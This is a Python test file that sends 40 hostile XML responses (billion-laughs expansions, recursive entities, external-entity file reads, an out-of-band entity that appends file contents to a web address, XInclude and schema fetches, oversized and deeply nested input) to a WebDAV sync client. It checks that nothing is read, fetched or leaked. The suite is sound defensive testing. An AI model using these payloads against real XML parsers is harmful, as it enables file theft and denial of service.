"""Hostile XML as an answer: 40 documents, from which nothing is fetched, opened or used.

XMLTests test the errors of the reader and its limits; here the built binary is observed from outside.
"""

import ctypes
import os
import struct
import unittest

from fakedav import HOME, NAMESPACES, XML, Answer
from security import BASE_BYTES, LIST, Attacked
from signin import Trap

IN_OPEN = 0x20


class Watch:
    """Detects with inotify that a process opened a file."""

    def __init__(self, path):
        self.descriptor = ctypes.CDLL(None).inotify_init1(os.O_NONBLOCK)
        assert ctypes.CDLL(None).inotify_add_watch(self.descriptor, bytes(path), IN_OPEN) > 0

    def opened(self):
        try:
            return struct.unpack_from("iIII", os.read(self.descriptor, 65536))[1] == IN_OPEN
        except BlockingIOError:
            return False


def declared(subset, use="&x;", head='<?xml version="1.0"?>', kind="r"):
    return (f'{head}<!DOCTYPE {kind} [{subset}]><D:multistatus {NAMESPACES}><D:response><D:href>{LIST}{use}</D:href>'
            f"<D:status>HTTP/1.1 200 OK</D:status></D:response></D:multistatus>").encode()


def plain(inside, head='<?xml version="1.0"?>', attributes=""):
    return f"{head}<D:multistatus {NAMESPACES}{attributes}>{inside}</D:multistatus>".encode()


def laughs(levels, width):
    lines = ['<!ENTITY a0 "ha">'] + [f'<!ENTITY a{n + 1} "{f"&a{n};" * width}">' for n in range(levels)]
    return "".join(lines), f"&a{levels};"


def documents(file, web):
    """The documents by name. `file` and `web` are addresses that must not be read."""
    include = ' xmlns:xi="http://www.w3.org/2001/XInclude"'
    return {
        "a DOCTYPE alone": declared(""),
        "an entity": declared('<!ENTITY x "y">'),
        "billion laughs": declared(*laughs(10, 10)),
        "laughs of many levels": declared(*laughs(60, 2)),
        "one large entity used often": declared(f'<!ENTITY x "{"a" * 50_000}">', "&x;" * 50_000),
        "an entity of itself": declared('<!ENTITY x "&x;">'),
        "entities of each other": declared('<!ENTITY x "&y;"><!ENTITY y "&x;">'),
        "laughs in an attribute": declared(laughs(10, 10)[0]).replace(b"<D:response>", b'<D:response a="&a10;">'),
        "a default value": declared('<!ATTLIST D:response a CDATA "&x;"><!ENTITY x "y">', ""),
        "parameter laughs": declared("".join(
            ['<!ENTITY % p0 "ha">'] + [f'<!ENTITY % p{n + 1} "{f"&#37;p{n};" * 10}">' for n in range(9)]) + "%p9;", ""),
        "a file": declared(f'<!ENTITY x SYSTEM "{file}">'),
        "a file by a public name": declared(f'<!ENTITY x PUBLIC "-//x//EN" "{file}">'),
        "a file in a parameter": declared(f'<!ENTITY % p SYSTEM "{file}"> %p;', ""),
        "a file without a scheme": declared(f'<!ENTITY x SYSTEM "{file.removeprefix("file://")}">'),
        "a web address": declared(f'<!ENTITY x SYSTEM "{web}">'),
        "a web address in a parameter": declared(f'<!ENTITY % p SYSTEM "{web}"> %p;', ""),
        "sent elsewhere": declared(f'<!ENTITY % f SYSTEM "{file}"><!ENTITY % p "<!ENTITY x SYSTEM \'{web}?%f;\'>"> %p;'),
        "a subset of the web": f'<?xml version="1.0"?><!DOCTYPE r SYSTEM "{web}"><r/>'.encode(),
        "a public subset": f'<?xml version="1.0"?><!DOCTYPE r PUBLIC "-//x//EN" "{web}"><r/>'.encode(),
        "a subset of a file": f'<?xml version="1.0"?><!DOCTYPE r SYSTEM "{file}"><r/>'.encode(),
        "an unparsed entity": declared(f'<!NOTATION n SYSTEM "{web}"><!ENTITY x SYSTEM "{file}" NDATA n>', ""),
        "a device": declared('<!ENTITY x SYSTEM "file:///dev/zero">'),
        "XInclude": plain(f'<xi:include href="{file}" parse="text"/>', attributes=include),
        "XInclude of the web": plain(f'<xi:include href="{web}"/>', attributes=include),
        "XInclude in an address": plain(
            f'<D:response><D:href>{LIST}<xi:include href="{file}" parse="text"/></D:href></D:response>', attributes=include),
        "a style sheet": plain("", f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{web}"?>'),
        "a schema": plain("", attributes=' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
                                         f'xsi:schemaLocation="DAV: {web}" xsi:noNamespaceSchemaLocation="{web}"'),
        "a base": plain("<D:response><D:href>x</D:href></D:response>", attributes=f' xml:base="{web}"'),
        "10,000 levels": plain("<a>" * 10_000 + "</a>" * 10_000),
        "a million levels that do not end": plain("<a>" * 1_000_000),
        "a text of 11 MB": plain(f"<D:response><D:href>{'a' * 11_000_000}</D:href></D:response>"),
        "an attribute of 11 MB": plain(f'<D:response a="{"a" * 11_000_000}"/>'),
        "a name of 5 MB": plain(f"<{'a' * 5_000_000}/>"),
        "100,000 attributes": plain("<a " + " ".join(f'a{n}=""' for n in range(100_000)) + "/>"),
        "100,000 namespaces": plain("<a " + " ".join(f'xmlns:a{n}="u{n}"' for n in range(100_000)) + "/>"),
        "a comment of 11 MB": plain(f"<!--{'a' * 11_000_000}-->"),
        "UTF-16 with a DOCTYPE": declared(f'<!ENTITY x SYSTEM "{file}">', head='<?xml version="1.0" encoding="UTF-16"?>')
        .decode().encode("utf-16"),
        "UTF-7 with a DOCTYPE": declared(f'<!ENTITY x SYSTEM "{file}">', head='<?xml version="1.0" encoding="UTF-7"?>')
        .decode().encode("utf-7"),
        "EBCDIC": declared(f'<!ENTITY x SYSTEM "{file}">', head='<?xml version="1.0" encoding="IBM037"?>').decode()
        .encode("cp037"),
        "UTF-32": declared(f'<!ENTITY x SYSTEM "{file}">', head='<?xml version="1.0" encoding="UTF-32"?>').decode()
        .encode("utf-32"),
    }


class HostileXML(Attacked):
    def test_no_external_entity_is_fetched_opened_or_used(self):
        server = self.connect(count=3)
        trap = self.serve(Trap())
        path = self.write("watched", "taken-from-a-file")
        watch = Watch(path)
        path.read_bytes()
        self.assertTrue(watch.opened(), "the watch does not see what is opened")
        before = self.laptop.items()
        cases = documents(f"file://{path}", f"http://127.0.0.1:{trap.port}/x")
        self.assertEqual(len(cases), 40)
        for number, (name, body) in enumerate(cases.items()):
            # Each replaces the listing of the home, and then the listing of the list.
            at = (HOME, LIST)[number % 2]
            with self.subTest(name, at=at):
                server.realm += 1
                server.take()
                server.intercept = lambda request: Answer(207, body, {"Content-Type": XML}) if request.path == at else None
                code, error, _, peak = self.laptop.measured("sync")
                self.assertIn(code, range(10), error[:300])
                self.assertLessEqual(peak, BASE_BYTES + 8 * len(body), error[:300])
                self.assertNotIn("taken-from", error)
                self.assertLess(len(error), 2000)
                self.assertLessEqual(len(server.requests), 8)
                for request in server.requests:
                    self.assertIn(request.method, ("PROPFIND", "REPORT", "OPTIONS"))
                    self.assertNotIn(b"taken-from", request.path.encode() + request.body)
                self.assertEqual(trap.requests, [])
                self.assertFalse(watch.opened(), "it was opened")
                server.behave()
                self.assertEqual(self.laptop.items(), before)
        for kept in self.laptop.store.rglob("*"):
            if kept.is_file():
                self.assertNotIn(b"taken-from", kept.read_bytes())
        self.laptop.sync()
        self.assertEqual(self.laptop.items(), before)


if __name__ == "__main__":
    unittest.main()
